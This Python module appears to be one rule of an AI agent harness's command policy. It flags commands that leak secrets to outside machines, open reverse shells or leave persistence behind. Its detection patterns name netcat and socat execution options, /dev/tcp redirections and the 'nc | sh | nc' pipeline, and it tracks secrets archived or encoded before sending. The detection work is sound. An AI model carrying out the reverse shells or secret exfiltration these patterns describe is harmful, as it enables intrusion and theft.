"""Rule D7: no secret leaves, nobody gets a shell here, nothing stays behind for later."""

import re
from collections.abc import Callable, Iterator, Sequence

from agents.harness.policy import files, network, targets
from agents.harness.policy.commands import Command
from agents.harness.policy.context import Context
from agents.harness.policy.findings import Finding
from agents.harness.policy.shell import names_secret, reads_secret
from agents.harness.policy.wrappers import SHELLS
import itertools

_NET_CATS = frozenset({"nc", "ncat", "netcat"})
_THEFT = Finding("D7", "Sends a secret to another machine")
_REVERSE_SHELL = Finding("D7", "Gives another machine a shell here")


def stays_behind(context: Context, command: Command) -> Iterator[Finding]:
    """Log-in and system-wide persistence."""
    for path in targets.written(context, command):
        if files.is_persistence(path):
            yield Finding("D7", f"Leaves a back door ({path})")


def reverse_shells(_context: Context, command: Command) -> Iterator[Finding]:
    """A shell whose input and output are a connection."""
    name, arguments = command.name, command.arguments
    if name in SHELLS and any("/dev/tcp/" in one.target.text or "/dev/udp/" in one.target.text
                              for one in command.redirections) or name in _NET_CATS and any(
        re.match(r"-\w*[ec]$|--(?:sh-)?exec", argument) for argument in arguments
    ) or name == "socat" and re.search(r"(?i)\b(?:exec|system):", " ".join(arguments)) or name in SHELLS and _pipes_both_ways(command):  # fmt: skip
        yield _REVERSE_SHELL


def _pipes_both_ways(command: Command) -> bool:
    """`nc host port | sh | nc host port`: what the shell is told comes from outside."""
    before = command.upstream
    return before is not None and before.name in (*_NET_CATS, "telnet", "socat")


def leaks(context: Context, command: Command) -> Iterator[Finding]:
    """A secret in the arguments, in the input or upstream of a connection to outside."""
    if not network.is_outside(command):
        return
    if command.name == "ssh" or (
        command.name == "git" and not any(word.tainted for word in command.words)
    ):
        # `ssh -i key host` and `git push` use a key to log in, they do not send it.
        direct = any(word.tainted for word in command.words)
    else:
        words = [word for word in command.words[1:] if not _is_key_option(command, word.text)]
        direct = any(
            word.tainted or names_secret(context, word.text.lstrip("@<"), command.cwd)
            for word in words
        ) or any(
            one.target.tainted or names_secret(context, one.target.text, command.cwd)
            for one in command.redirections
            if one.operator in ("<", "<>", "<<<")
        )
    if direct or _secret_upstream(context, command):
        yield _THEFT


def _is_key_option(command: Command, text: str) -> bool:
    """The word behind `-i`, `--cert`, `--key`, `--cacert`: it is used, not sent."""
    arguments = command.arguments
    return any(
        before in ("-i", "--cert", "--key", "--cacert", "-E", "-F", "-CAfile") and after == text
        for before, after in itertools.pairwise(arguments)
        if not (before == "-F" and command.name == "curl")
    )


def _secret_upstream(context: Context, command: Command) -> bool:
    upstream = command.upstream
    while upstream is not None:
        if reads_secret(context, upstream):
            return True
        upstream = upstream.upstream
    return False


def in_the_whole(context: Context, commands: Sequence[Command]) -> Iterator[Finding]:
    """A secret that goes into a file, and that file to another machine, in one call."""
    loot: set[str] = set()
    for command in commands:
        if loot and network.is_outside(command):
            words = [*command.words[1:], *(one.target for one in command.redirections)]
            sent = {
                files.real(context, part, cwd=command.cwd)
                for word in words
                for part in (word.text, word.text.rpartition("@")[2], word.text.rpartition("=")[2])
                if part
            }
            if sent & loot:
                yield _THEFT
        if reads_secret(context, command) or _secret_upstream(context, command):
            loot.update(targets.written(context, command))
            if command.name in ("tar", "zip", "7z", "cp", "base64", "gpg", "openssl"):
                loot.update(
                    files.real(context, word.text, cwd=command.cwd)
                    for word in command.words[1:]
                    if word.text and not word.text.startswith("-")
                )


RULES: tuple[Callable[[Context, Command], Iterator[Finding]], ...] = (
    stays_behind,
    reverse_shells,
    leaks,
)
